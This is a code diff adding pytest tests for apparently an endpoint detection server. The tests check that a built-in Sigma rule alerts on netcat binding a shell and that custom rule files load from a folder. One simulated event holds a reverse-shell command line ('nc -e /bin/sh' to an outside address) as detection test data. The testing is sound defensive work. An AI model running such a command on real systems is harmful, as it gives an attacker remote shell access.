@@ -122,3 +122,62 @@ def test_domain_and_cidr_indicators_and_allowed_suppression(ward, admin_token):
     ranged = wait_for(lambda: alerts_on(ward, admin_token, s.device_id, f"Bad range {tag}"), 15)
     assert ranged and any(e["ipAddress"] == "198.19.4.4" for e in ranged[0]["evidence"])
     assert not alerts_on(ward, admin_token, s.device_id, f"Allowed tool {tag}")
+
+
+def sigma_alerts(ward, token, device):
+    r = ward.get("/api/alerts?$filter=detectionSource eq 'WardEdr'&$expand=evidence", token)
+    assert r.status_code == 200, r.text
+    return [a for a in r.json()["value"] if a["machineId"] == device]
+
+
+def test_builtin_sigma_rule_raises_an_alert(ward, admin_token):
+    s = FakeSensor(ward, onboarding_info(ward, admin_token))
+    s.enroll()
+    near_miss = s.event("DeviceProcessEvents", ActionType="ProcessCreated", FileName="nc", FolderPath="/usr/bin/nc",
+                        ProcessCommandLine="nc -l 4444", ProcessId=11)
+    assert s.send([near_miss]).json()["accepted"] == 1
+    hit = s.event("DeviceProcessEvents", ActionType="ProcessCreated", FileName="nc", FolderPath="/usr/bin/nc",
+                  ProcessCommandLine="nc -e /bin/sh 203.0.113.9 4444", ProcessId=12, AccountName="www-data")
+    assert s.send([hit]).json()["accepted"] == 1
+    found = wait_for(lambda: sigma_alerts(ward, admin_token, s.device_id), 15)
+    assert len(found) == 1, found
+    alert = found[0]
+    assert alert["title"] == "Netcat Binding A Program To A Connection" and alert["severity"] == "High"
+    assert "T1059" in alert["mitreTechniques"] and alert["category"] == "Execution"
+    procs = [e for e in alert["evidence"] if e["entityType"] == "Process"]
+    assert [p["processId"] for p in procs] == [12]  # the near miss is not evidence
+
+
+def test_rules_from_the_data_folder(tmp_path):
+    from conftest import Ward
+    w = Ward(tmp_path / "rules", tls=False)
+    folder = tmp_path / "rules" / "rules" / "sigma"
+    folder.mkdir(parents=True)
+    (folder / "custom.yml").write_text("""title: Custom marker tool
+id: 0b6f3c3e-7d43-4b7a-9b8e-0d7a55a1c001
+status: experimental
+logsource:
+    product: linux
+    category: process_creation
+detection:
+    selection:
+        CommandLine|contains: 'ward-custom-marker'
+    condition: selection
+level: medium
+tags:
+    - attack.discovery
+""")
+    (folder / "broken.yml").write_text("title: broken\ndetection: [unclosed\n")
+    w.start()
+    try:
+        token = w.app_token()
+        s = FakeSensor(w, onboarding_info(w, token))
+        s.enroll()
+        ev = s.event("DeviceProcessEvents", ActionType="ProcessCreated", FileName="sh", FolderPath="/bin/sh",
+                     ProcessCommandLine="sh -c 'echo ward-custom-marker'", ProcessId=5)
+        assert s.send([ev]).json()["accepted"] == 1
+        found = wait_for(lambda: sigma_alerts(w, token, s.device_id), 15)
+        assert found and found[0]["title"] == "Custom marker tool" and found[0]["severity"] == "Medium"
+        assert "broken.yml" in open(tmp_path / "rules" / "server.log").read()
+    finally:
+        w.stop()
